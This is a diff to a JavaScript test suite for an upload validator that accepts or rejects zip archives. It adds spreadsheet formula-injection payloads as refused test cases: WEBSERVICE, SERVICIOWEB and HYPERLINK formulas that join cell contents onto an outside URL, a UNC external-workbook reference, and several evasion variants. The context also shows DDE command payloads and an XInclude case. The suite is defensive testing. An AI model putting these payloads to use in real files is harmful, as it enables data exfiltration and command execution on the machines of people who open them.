@@ -52,6 +52,16 @@ describe('an archive that is taken', () => {
       }),
     ],
     ['with a text that is called a document', zip({ 'informe.doc': '{\\rtf1\\ansi Informe}' })],
+    [
+      'with tables in which programs reckon',
+      zip({
+        'a.csv':
+          'paciente;dosis;nota\n="00123";=SUM(B2:B3);-5\n+34 600 123 456;-1,5;"- Cisplatino (75 mg/m2)\n- Pemetrexed"\n',
+        'b.csv':
+          'sep=;\nweb;https://example.org\n=HYPERLINK("https://example.org";"Guía");1\n"=HYPERLINK(""https://example.org"")";2\n',
+        'c.csv': 'a\n\\\\host\\a\n"Dijo: ""="\n',
+      }),
+    ],
     ['with archives in it', nested(zip({ 'a.pdf': PDF }), 2)],
     ['with a name in another encoding', zip({ 'Informe clínico (1).pdf': PDF })],
     ['with its name once more', zip({ 'informe.pdf': PDF }, { otherNames: ['infórme.pdf'] })],
@@ -125,6 +135,14 @@ describe('an archive that is refused', () => {
     ['with a sheet of another kind that is called a table', zip({ 'a.csv': 'ID;PWXL;N;E\nC;Y1;X1;K"x"' })],
     ['with a table that asks another program', zip({ 'a.csv': "a;b\n1;=cmd|'/c calc'!A0\n" })],
     ['with a table that asks another program behind a blank', zip({ 'a.csv': 'a;" +cmd|\'/c calc\'!A0"\n' })],
+    ['with a table that fetches', zip({ 'a.csv': '=WEBSERVICE("http://h/"&A1);1' })],
+    ['with a table that fetches by a Spanish name', zip({ 'a.csv': '1;@SERVICIOWEB(A1&B1)' })],
+    ['with a table whose link is put together', zip({ 'a.csv': '=HYPERLINK("http://h/"&A1);1' })],
+    ['with a table that brings in another book', zip({ 'a.csv': "='\\\\host\\share\\[x.xls]S'!A1;1" })],
+    ['with a table that fetches over lines', zip({ 'a.csv': 'a;"\n=\nWEBSERVICE\n(""http""&A1)"\n' })],
+    ['with a table that fetches behind another line’s quotes', zip({ 'a.csv': '"=1\n+1";2;=WEBSERVICE(A1)\n' })],
+    ['with a table that fetches at its end', zip({ 'a.csv': `${'-5;'.repeat(60_000)}=WEBSERVICE(A1)` })],
+    ['with a table that parts its cells in a way of its own', zip({ 'a.csv': 'sep=x\nax=WEBSERVICE(A1)' })],
     [
       'with a table that asks another program in another encoding',
       zip({ 'a.csv': Buffer.from("\ufeff=cmd|'/c calc'!A0", 'utf16le') }),
@@ -132,6 +150,10 @@ describe('an archive that is refused', () => {
     [
       'with a page that is called data',
       zip({ 'a.xml': '<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>' }),
+    ],
+    [
+      'with data that brings in other data',
+      zip({ 'a.xml': '<a><i xmlns="http://www.w3.org/2001/XInclude" href="b"/></a>' }),
     ],
     ['with a page within data', zip({ 'a.xml': '<a><x:script xmlns:x="http://www.w3.org/1999/xhtml"/></a>' })],
     [
